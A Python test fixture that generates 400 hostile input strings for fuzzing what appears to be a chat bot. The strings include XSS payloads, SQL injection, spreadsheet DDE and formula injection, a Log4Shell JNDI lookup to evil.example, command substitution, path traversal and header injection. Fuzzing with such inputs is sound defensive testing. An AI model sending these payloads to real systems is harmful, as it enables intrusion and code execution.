"""Hostile: four hundred strings of our own that try to be something other than text."""

import random

MARKUP = [
    "<b>hei</b>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</article><h1>x</h1>", "<a href='javascript:alert(1)'>x</a>",
    "&lt;b&gt;", "&amp;&#60;", "<!-- -->", "<![CDATA[x]]>", "<svg/onload=alert(1)>", "\"><input autofocus onfocus=alert(1)>",
    "**bold** _it_ `code`", "[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "# otsikko", "> lainaus", "- luettelo", "~~x~~",
    "<tg-spoiler>x</tg-spoiler>", "*_[]()~`>#+-=|{}.!", "<b", "a<b && c>d", "<pre><code>", "<style>*{display:none}</style>", "<base href=//evil.example>",
]  # fmt: skip
MENTIONS = [
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U0STAFF01>",
    "<#C0GENERAL>",
    "<http://evil.example|kirjasto>",
    "@channel",
    "@everyone",
    "@here",
    "<!subteam^S0STAFF01>",
]
COMMANDS = [
    "/cases",
    "/round close",
    "/join 0",
    "//x",
    "/",
    "/ ",
    "/start fb_../../etc",
    "/digest",
    "/lang ../../",
    "/unknown@jana",
    "/" + "x" * 300,
    "/record; drop table cases",
]
SQL = [
    "' OR 1=1 --",
    "'; DROP TABLE cases; --",
    "\\'; --",
    "1; SELECT * FROM people",
    "%' AND '1'='1",
    "NULL",
    '"; PRAGMA journal_mode=OFF; --',
    "x' UNION SELECT sealed FROM places --",
    "$1",
    ":b_library",
    "?",
    "{b_library}",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    "-2+3",
]
TEMPLATES = [
    "{code}",
    "{0}",
    "{turn.house}",
    "%s",
    "%(code)s",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "{% raw %}",
    "{",
    "}",
    "{}",
    "{code.__class__}",
    "$(id)",
    "`id`",
    "${PATH}",
]
PATHS = [
    "../../etc/passwd",
    "..\\..\\windows",
    "file:///etc/passwd",
    "http://127.0.0.1/",
    "\\\\host\\share",
    "/dev/null",
    "con",
    "%2e%2e%2f",
]
CONTROL = [
    "\x00",
    "a\x00b",
    "\x1b[2J",
    "\x1b]0;x\x07",
    "\r\nSet-Cookie: x",
    "a\x08b",
    "\x7f",
    "\x85",
    "a\u2028b",
    "\ufeffx",
    "\x1b[31mred",
    "\n\n\n\n\n\n\n\n",
    "\t\t",
    "\r",
    "a\rb\r\nc",
]
INVISIBLE = [
    "\u200b",
    "\u200e\u200f",
    "\u202egnp.exe",
    "a\u2066b\u2069",
    "\u00ad",
    "\u2060",
    "\u180e",
    "ﷺ",
    "\ue000",
    "\U000e0041",
    "\u3164",
    "e" + "\u0301" * 200,
    "Z̸̡̤̰",
    "\u061c",
]
EMOJI = ["😀", "👩‍👩‍👧‍👦", "🇫🇮", "1️⃣", "👍🏽", "❤️", "😀" * 200, "🏳️‍🌈"]
UNICODE = [
    "İstanbul",
    "ß",
    "ﬃ",
    "Å",
    "A\u030a",
    "Ω",
    "日本語",
    "한국어",
    "العربية",
    "עברית",
    "ไทย",
    "ÄÖÅäöå",
    "ǆ",
    "½",
    "𝕏",
    "\U0001f1eb",
]
SURROGATES = ["\ud800", "\udfff", "a\ud83d", "\udc00b", "\ud83d\ud83d", "x\ud800\udc00y"]
CALLBACKS = ["form.take", "feedback.send", "a:0", "AAAAAAAAAAAAAAAA:0", "0", "-1", 'case.close:{"case":1}', "menu.lang"]
PERSONAL = [
    "010190-123A",
    "soita 040 123 4567",
    "aino@example.org",
    "IBAN FI21 1234 5600 0007 85",
    "opiskelijanumero 0123456",
    "4111 1111 1111 1111",
    "123456:ABC-DEF1234ghIkl-zyx57W2v1u123ew11",
]
LONG = [
    "a" * 3000,
    "ä" * 5000,
    "kirja " * 1500,
    "\n".join("x" * 80 for _ in range(150)),
    "<b>" * 1000,
    "(" * 3000,
    "a" * 100_000,
    "0" * 4097,
]
REGEX = ["(a+)+$", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", "1" * 60 + "x", "9" * 40 + "-" * 40, " " * 2000 + "x"]
BLANK = ["", " ", "\n", "\u00a0", "\u2003", "\u200b\u200b", "...", "?", "!", "-"]

KINDS = {
    "markup": MARKUP, "mentions": MENTIONS, "commands": COMMANDS, "sql": SQL, "formulas": FORMULAS, "templates": TEMPLATES, "paths": PATHS,
    "control": CONTROL, "invisible": INVISIBLE, "emoji": EMOJI, "unicode": UNICODE, "surrogates": SURROGATES, "callbacks": CALLBACKS,
    "personal": PERSONAL, "long": LONG, "regex": REGEX, "blank": BLANK,
}  # fmt: skip


def strings(count: int = 400, seed: int = 47) -> list[str]:
    """The strings themselves, and then splices of them, always the same."""
    found = [one for kind in KINDS.values() for one in kind]
    dice = random.Random(seed)
    while len(found) < count:
        first, second = dice.choice(found), dice.choice(found)
        if len(first) + len(second) < 8000:
            cut = dice.randint(0, len(first))
            found.append(first[:cut] + second + first[cut:])
    return found[:count]
